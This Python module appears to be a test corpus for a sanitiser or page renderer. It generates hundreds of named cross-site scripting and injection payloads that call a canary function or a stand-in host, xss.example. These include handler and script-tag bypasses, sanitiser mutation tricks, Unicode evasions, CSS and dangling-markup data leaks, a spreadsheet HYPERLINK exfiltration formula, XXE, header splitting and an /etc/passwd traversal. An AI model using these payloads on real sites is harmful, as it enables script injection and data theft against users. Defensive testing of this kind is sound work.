"""Payloads that try to make a page run a script or ask another host: made from a grammar of techniques, one name each.

``RUN`` in a technique is a call of the canary with the payload's name, ``EVIL`` a host that nobody may ask. What runs
as a script calls ``__xss("name")``; what only leaks asks for an address below ``EVIL``.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

EVIL = "xss.example"
_TAGS_THAT_FAIL = ("img src=x", "image src=x", "video src=x", "audio src=x", "input type=image src=x", "embed src=x")
_TAGS_THAT_LOAD = ("svg", "body", "iframe", "style", "object data=/", "link rel=stylesheet href=/favicon.svg")
_TAGS_WITH_FOCUS = ("input", "select", "textarea", "button", "a href=#", "div tabindex=0", "details open", "keygen")
_TAGS_THAT_MOVE = ("svg><animate attributeName=x dur=1s", "svg><set attributeName=x dur=1s", "marquee", "div")
_SPACES = {"blank": " ", "tab": "\t", "line": "\n", "feed": "\f", "slash": "/", "slashes": "/x/"}
_URL_SCHEMES = {
    "plain": "javascript:RUN",
    "case": "JaVaScRiPt:RUN",
    "tab": "java\tscript:RUN",
    "line": "java\nscript:RUN",
    "return": "java\rscript:RUN",
    "entity": "&#106;avascript&colon;RUN",
    "hex-entity": "&#x6A;&#x61;vascript&#58;RUN",
    "control": "\x01javascript:RUN",
    "blanks": "   javascript:RUN",
    "comment": "javascript://%0aRUN",
    "comment-host": "javascript://" + EVIL + "/%0aRUN//",
    "percent": "javascript:%20RUN%3B",
    "void": "javascript:void(RUN)",
    "label": "javascript:x:RUN",
    "vbscript": "vbscript:RUN",
    "view-source": "view-source:javascript:RUN",
    "feed": "feed:javascript:RUN",
    "data-html": "data:text/html,<script>RUN</script>",
    "data-svg": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "data-script": "data:text/javascript,RUN",
    "data-no-type": "data:,RUN",
    "protocol-relative": "//" + EVIL + "/x.js",
    "backslashes": "\\\\" + EVIL + "\\x.js",
    "credentials": "https://127.0.0.1@" + EVIL + "/",
    "nul": "java\x00script:RUN",
    "fullwidth": "ｊａｖａｓｃｒｉｐｔ：RUN",
}
_URL_HOLDERS = ("a href", "iframe src", "form action", "object data", "embed src", "base href", "svg><a xlink:href")
_TEMPLATES = {
    "curly": "{{RUN}}",
    "angular": "{{constructor.constructor('RUN')()}}",
    "angular-old": "{{'a'.constructor.prototype.charAt=[].join;$eval('x=RUN')}}",
    "vue": "{{_c.constructor('RUN')()}}",
    "svelte-html": "{@html '<img src=x onerror=RUN>'}",
    "svelte-expression": "{RUN}",
    "svelte-const": "{@const x = RUN}{x}",
    "template-literal": "${RUN}",
    "erb": "<%= RUN %>",
    "jinja": "{% if RUN %}x{% endif %}{{ config }}",
    "jinja-class": "{{ ''.__class__.__mro__ }}",
    "pug": "#{RUN}",
    "mustache": "{{{RUN}}}",
    "catalogue": "{name}{count|RUN|#}",
    "format": "{0.__class__}%(x)s%s%n",
    "regexp-replacement": "$& $1 $` $' $$ <img src=x onerror=RUN>",
}
_BREAKING = {
    "script-end": "</script><script>RUN</script>",
    "script-end-odd": "</script\t><script >RUN</script\n>",
    "title-end": "</title><script>RUN</script>",
    "textarea-end": "</textarea><img src=x onerror=RUN>",
    "style-end": "</style><img src=x onerror=RUN>",
    "noscript-end": "</noscript><img src=x onerror=RUN>",
    "template-end": "</template><img src=x onerror=RUN>",
    "select-end": "</select><img src=x onerror=RUN>",
    "comment-end": "--><img src=x onerror=RUN>",
    "comment-end-odd": "--!><img src=x onerror=RUN>",
    "cdata-end": "]]><img src=x onerror=RUN>",
    "json-string": '","x":"</script><script>RUN</script>',
    "json-escape": "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "js-string-single": "';RUN;'",
    "js-string-double": '";RUN;"',
    "js-string-back": "`;RUN;`",
    "js-escape": "\\';RUN;//",
    "js-arithmetic": "'-RUN-'",
    "js-line-separator": "\u2028RUN\u2029",
    "attribute-double": '" autofocus onfocus=RUN x="',
    "attribute-single": "' autofocus onfocus=RUN x='",
    "attribute-none": "x autofocus onfocus=RUN",
    "attribute-back": "` onerror=RUN `",
    "attribute-tag": '"><img src=x onerror=RUN>',
    "attribute-style": '" style="animation-name:x" onanimationstart=RUN x="',
    "csv-formula": '=HYPERLINK("https://' + EVIL + '/?"&A1,"see")',
    "header-split": "x\r\nSet-Cookie: x=y\r\n\r\n<script>RUN</script>",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "https://' + EVIL + '/e">]><x>&e;</x>',
    "ansi": "\x1b]8;;https://" + EVIL + "/\x1b\\see\x1b]8;;\x1b\\",
}
_MUTATIONS = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "math-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "math-mi": "<math><mi//xlink:href='data:x,<script>RUN</script>'>",
    "math-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style>',
    "math-maction": "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "svg-style": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "svg-title": "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "svg-desc": "<svg><desc><noscript><img src=x onerror=RUN></noscript></desc></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></foreignObject></svg>",
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-script-href": "<svg><script href=https://" + EVIL + "/x.js></script></svg>",
    "svg-script-entity": "<svg><script>&#47;*x*&#47;RUN</script></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=RUN/>#x'/>",
    "svg-image": "<svg><image href=https://" + EVIL + "/i.svg /></svg>",
    "svg-feimage": "<svg><filter><feImage href=https://" + EVIL + "/f /></filter></svg>",
    "svg-handler": "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler></svg>",
    "svg-animate-href": "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "form-nested": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "table-foster": "<table><td><form><svg><style><!--</style><img src=x onerror=RUN>-->",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=RUN>'>",
    "plaintext": "<plaintext><img src=x onerror=RUN>",
    "select-template": "<select><template><img src=x onerror=RUN></template></select>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    "image-alias": "<image src=x onerror=RUN>",
    "nested-comment": "<!--<img src='--><img src=x onerror=RUN>'>",
    "conditional-comment": "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "processing": "<?xml-stylesheet href='javascript:RUN'?><img src=x onerror=RUN>",
    "bogus-comment": "</ x><img src=x onerror=RUN>",
    "entity-twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "entities": "&lt;img src=x onerror=RUN&gt;",
    "entities-decimal": "&#60;img src=x onerror=RUN&#62;",
    "entities-no-semicolon": "&#60img src=x onerror=RUN&#62",
    "custom-element": "<x-whence onclick=RUN tabindex=1 id=x autofocus onfocus=RUN>",
}
_UNICODE = {
    "fullwidth": "＜script＞RUN＜/script＞",
    "long-s": "<ſcript>RUN</ſcript>",
    "kelvin": "<linK rel=stylesheet href=https://" + EVIL + "/k>",
    "dotless-i": "<scrıpt>RUN</scrıpt>",
    "small-angle": "﹤img src=x onerror=RUN﹥",
    "guillemets": "‹img src=x onerror=RUN›",
    "bom": "\ufeff<script>RUN</script>",
    "zero-width": "<scr\u200bipt>RUN</scr\u200bipt>",
    "joiner": "<im\u200dg src=x onerror=RUN>",
    "soft-hyphen": "<scr\u00adipt>RUN</scr\u00adipt>",
    "combining": "<\u0338img src=x onerror=RUN>",
    "rtl-override": "\u202e>NUR=rorreno x=crs gmi<\u202c<img src=x onerror=RUN>",
    "isolate": "\u2067<img src=x onerror=RUN>\u2069",
    "unclosed-override": "\u202e<script>RUN</script>",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "<script>") + "<script>RUN</script>",
    "astral": "😀<img src=x onerror=RUN>😀",
    "lone-marks": "\u0300\u0301\u0302" * 40 + "<img src=x onerror=RUN>",
    "noncharacter": "\ufffe<img src=x onerror=RUN>\uffff",
    "replacement": "\ufffd<img src=x onerror=RUN>",
    "utf7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "overlong": "\u00c0\u00bcscript\u00c0\u00beRUN",
    "nul-in-tag": "<scr\x00ipt>RUN</scr\x00ipt>",
    "nul-in-attribute": "<img src=x one\x00rror=RUN>",
    "nul-first": "\x00<img src=x onerror=RUN>",
    "c1-controls": "\x9bscript\x9c<img src=x onerror=RUN>",
    "backspace": "x\x08\x08<img src=x onerror=RUN>",
    "line-separator": "<img\u2028src=x\u2029onerror=RUN>",
    "no-break": "<img\u00a0src=x\u00a0onerror=RUN>",
    "arabic": "حلبجة <img src=x onerror=RUN> حلبجة",
}
_STYLES = {
    "import": "<style>@import 'https://EVIL/s.css';</style>",
    "background": "<div style=\"background:url('https://EVIL/b')\">x</div>",
    "expression": '<div style="width:expression(RUN)">x</div>',
    "behavior": '<div style="behavior:url(https://EVIL/b.htc)">x</div>',
    "moz-binding": '<div style="-moz-binding:url(https://EVIL/m.xml#x)">x</div>',
    "font-face": "<style>@font-face{font-family:x;src:url(https://EVIL/f)}*{font-family:x}</style>",
    "leak": '<style>input[value^="a"]{background:url(https://EVIL/a)}</style>',
    "cover": '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
    "animation": "<style>@keyframes x{}</style><xss style=animation-name:x onanimationstart=RUN>",
    "transition": "<xss style=transition:color+1s ontransitionend=RUN tabindex=1>",
    "link": "<link rel=stylesheet href=https://EVIL/l.css>",
    "value": "red;background:url(https://EVIL/v)",
    "brace": "x}*{background:url(https://EVIL/x)}",
    "escape": "\\3c img src=x onerror=RUN\\3e",
    "var": "var(--x,url(https://EVIL/u))",
    "url": "url(javascript:RUN)",
}
_FETCHING = {
    "meta-refresh": "<meta http-equiv=refresh content='0;url=https://EVIL/m'>",
    "meta-refresh-script": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "base": "<base href=https://EVIL/>",
    "prefetch": "<link rel=prefetch href=https://EVIL/p>",
    "dns-prefetch": "<link rel=dns-prefetch href=//EVIL>",
    "preconnect": "<link rel=preconnect href=https://EVIL>",
    "modulepreload": "<link rel=modulepreload href=https://EVIL/m.js>",
    "manifest": "<link rel=manifest href=https://EVIL/m.json>",
    "import": "<link rel=import href=https://EVIL/i.html>",
    "icon": "<link rel=icon href=https://EVIL/i.ico>",
    "img": "<img src=https://EVIL/1.gif>",
    "srcset": "<img srcset='https://EVIL/2.gif 1x'>",
    "picture": "<picture><source srcset=https://EVIL/3.gif><img src=x></picture>",
    "lazy": "<img loading=eager src=https://EVIL/4.gif width=1>",
    "video-poster": "<video poster=https://EVIL/5.gif></video>",
    "track": "<video><track default src=https://EVIL/6.vtt></video>",
    "audio": "<audio src=https://EVIL/7.mp3 autoplay></audio>",
    "frame": "<iframe src=https://EVIL/></iframe>",
    "srcdoc": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "srcdoc-entities": "<iframe srcdoc='&lt;img src=x onerror=parent.RUN&gt;'></iframe>",
    "frameset": "<frameset onload=RUN><frame src=https://EVIL/></frameset>",
    "object": "<object data=https://EVIL/o></object>",
    "embed": "<embed src=https://EVIL/e>",
    "applet": "<applet code=https://EVIL/a></applet>",
    "portal": "<portal src=https://EVIL/p></portal>",
    "fencedframe": "<fencedframe src=https://EVIL/p></fencedframe>",
    "form": "<form action=https://EVIL/><input name=x><button autofocus>go</button></form>",
    "formaction": "<button form=x formaction=javascript:RUN>go</button><form id=x></form>",
    "ping": "<a href=/ ping=https://EVIL/ping>x</a>",
    "script-src": "<script src=https://EVIL/x.js></script>",
    "script-module": "<script type=module src=https://EVIL/x.mjs></script>",
    "importmap": '<script type=importmap>{"imports":{"svelte":"https://EVIL/s.js"}}</script>',
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["https://EVIL/"]}]}</script>',
    "worker": "<script>new Worker('https://EVIL/w.js')</script>",
    "bgsound": "<bgsound src=https://EVIL/b>",
    "body-background": "<body background=https://EVIL/b>",
    "table-background": "<table background=https://EVIL/b><td>x</td></table>",
    "math-href": "<math href=javascript:RUN>x</math>",
}
_DANGLING = {
    "img-single": "<img src='https://EVIL/?",
    "img-double": '<img src="https://EVIL/?',
    "a-target": "<a href=https://EVIL/ target='",
    "form": '<form action="https://EVIL/"><textarea name=x>',
    "base-target": "<base target='",
    "option": "<form action=https://EVIL/><select name=x><option>",
    "meta": "<meta http-equiv=refresh content='0;url=https://EVIL/?",
    "button": "<button formaction=https://EVIL/ name=x value='",
    "style": "<style>@import 'https://EVIL/?",
    "tag": "<script src=//EVIL/x.js ",
    "comment": "<!-- ",
    "noscript": "<noscript><form action=https://EVIL/><input type=submit value='",
}
_SCRIPTS = {
    "plain": "<script>RUN</script>",
    "case": "<ScRiPt>RUN</sCrIpT>",
    "blank": "<script >RUN</script >",
    "slash": "<script/x>RUN</script>",
    "line": "<script\n>RUN</script\n>",
    "unclosed": "<script>RUN//",
    "half-open": "<<script>RUN//<</script>",
    "nested": "<scr<script>ipt>RUN</scr</script>ipt>",
    "type": "<script type=text/javascript>RUN</script>",
    "module": "<script type=module>RUN</script>",
    "async": "<script async defer>RUN</script>",
    "language": "<script language=vbs>RUN</script>",
    "xml": "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>RUN</html:script>",
    "template": "<script>`${RUN}`</script>",
    "throw": "<script>onerror=()=>RUN;throw 1</script>",
    "eval": "<script>eval('RUN')</script>",
    "function": "<script>Function('RUN')()</script>",
    "timeout": "<script>setTimeout('RUN')</script>",
    "import": "<script>import('data:text/javascript,RUN')</script>",
    "document-write": "<script>document.write('<img src=x onerror=RUN>')</script>",
    "top": "<script>top.RUN</script>",
    "jsonp": "<script src=/api/v1/search?q=RUN&callback=x></script>",
    "own-bytes": "<script src=/api/v1/documents/00000000/bytes></script>",
}
_CLOBBERING = {
    "id": "<a id=__xss><a id=__xss name=push href=x>",
    "form": "<form id=desk name=desk><input id=attributes name=innerHTML></form>",
    "body": "<form name=body></form><img name=getElementById>",
    "location": "<a id=location href=javascript:RUN>",
    "proto": "__proto__",
    "constructor": "constructor",
    "to-string": "toString",
    "has-own": "hasOwnProperty",
    "json-proto": '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}',
    "path": "../../../../etc/passwd",
    "path-route": "/../../keys#<img src=x onerror=RUN>",
    "number": "NaN",
    "null": "null",
    "undefined": "undefined",
    "object": "[object Object]",
    "empty-tag": "<>",
}
_POLYGLOTS = {
    "one": "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+RUN//'>",
    "two": "'\"><svg/onload=RUN><!--</script>--></style></title><img src=x onerror=RUN>",
    "three": "*/RUN/*'/*\"/*`/*--></script><svg onload=RUN>{{RUN}}${RUN}",
    "four": "\" onclick=RUN//<button ' onclick=RUN//> */ RUN//",
    "five": "%3Cscript%3ERUN%3C/script%3E<script>RUN</script>&lt;script&gt;RUN&lt;/script&gt;",
}


@dataclass(frozen=True, slots=True)
class Payload:
    """An attack: its name, ``technique:variant``, and its text, which calls the canary with that name."""

    name: str
    text: str

    @property
    def technique(self) -> str:
        return self.name.partition(":")[0]


def payloads() -> tuple[Payload, ...]:
    """Make them all, each once, always in the same order."""
    made = {text: Payload(name, text) for name, text in _written()}
    return tuple({payload.name: payload for payload in made.values()}.values())


def _written() -> Iterator[tuple[str, str]]:
    for name, pattern in _patterns():
        call = f"__xss(`{name}`)" if "'" in pattern and '"' in pattern else f"__xss('{name}')"
        call = f"__xss(/{name}/.source)" if "'RUN" in pattern or "RUN'" in pattern else call
        yield name, pattern.replace("RUN", call).replace("EVIL", EVIL)


def _patterns() -> Iterator[tuple[str, str]]:
    yield from _named("script", _SCRIPTS)
    yield from _handlers()
    yield from _addresses()
    yield from _named("template", _TEMPLATES)
    yield from _named("breaking", _BREAKING)
    yield from _named("mutation", _MUTATIONS)
    yield from _named("unicode", _UNICODE)
    yield from _named("style", _STYLES)
    yield from _named("fetching", _FETCHING)
    yield from _named("dangling", _DANGLING)
    yield from _named("clobbering", _CLOBBERING)
    yield from _named("polyglot", _POLYGLOTS)
    yield from _long()


def _named(technique: str, patterns: dict[str, str]) -> Iterator[tuple[str, str]]:
    return ((f"{technique}:{name}", pattern) for name, pattern in patterns.items())


def _handlers() -> Iterator[tuple[str, str]]:
    """Elements that run a handler without anybody's doing, in several spellings."""
    for tag in _TAGS_THAT_FAIL:
        yield f"handler:error-{_word(tag)}", f"<{tag} onerror=RUN>"
    for tag in _TAGS_THAT_LOAD:
        yield f"handler:load-{_word(tag)}", f"<{tag} onload=RUN>x"
    for tag, event in product(_TAGS_WITH_FOCUS, ("onfocus", "onfocusin")):
        yield f"handler:{event}-{_word(tag)}", f"<{tag} autofocus {event}=RUN>x"
    for tag, event in zip(_TAGS_THAT_MOVE, ("onbegin", "onbegin", "onstart", "onscrollend"), strict=True):
        yield f"handler:{event}-{_word(tag)}", f"<{tag} {event}=RUN>x"
    for event in ("toggle", "click", "mouseover", "pointerenter", "wheel", "copy", "beforetoggle", "contextmenu"):
        yield f"handler:on{event}", f"<details open popover on{event}=RUN>x</details>"
    for name, space in _SPACES.items():
        yield f"handler:space-{name}", f"<img{space}src=x{space}onerror=RUN>"
    for quote in ('"', "'", "`"):
        yield f"handler:quote-{ord(quote)}", f"<img src=x onerror={quote}eval(unescape(/RUN/.source)){quote}>"
    yield "handler:upper", "<IMG SRC=X ONERROR=RUN>"
    yield "handler:no-end", "<img src=x onerror=RUN //"
    yield "handler:quoted-tag", '<img """><img src=x onerror=RUN>'
    yield "handler:twice", "<img src=x onerror=1 onerror=RUN>"


def _addresses() -> Iterator[tuple[str, str]]:
    """Addresses that run or that lead elsewhere: bare, as a report's own address is, and inside elements."""
    for name, address in _URL_SCHEMES.items():
        yield f"address:{name}", address
    for name, holder in product(("plain", "tab", "entity", "data-html"), _URL_HOLDERS):
        yield f"address:{name}-{_word(holder)}", f'<{holder}="{_URL_SCHEMES[name]}">x'
    coded = base64.b64encode(f"<script>parent.__xss('address:base64')</script><!--{EVIL}-->".encode()).decode()
    yield "address:base64", f"data:text/html;base64,{coded}"


def _long() -> Iterator[tuple[str, str]]:
    """Much of something: text without a break, nesting, attributes, and a tag at the very end."""
    yield "long:word", "x" * 20_000 + "<img src=x onerror=RUN>"
    yield "long:nested", "<b>" * 3_000 + "<img src=x onerror=RUN>"
    yield "long:attributes", "<img " + " ".join(f"a{n}=1" for n in range(2_000)) + " src=x onerror=RUN>"
    yield "long:marks", "\u0301" * 3_000 + "<img src=x onerror=RUN>"
    yield "long:overrides", "\u202e" * 500 + "<img src=x onerror=RUN>"


def _word(tag: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in tag.partition(" ")[0] + tag.partition("><")[2][:8])
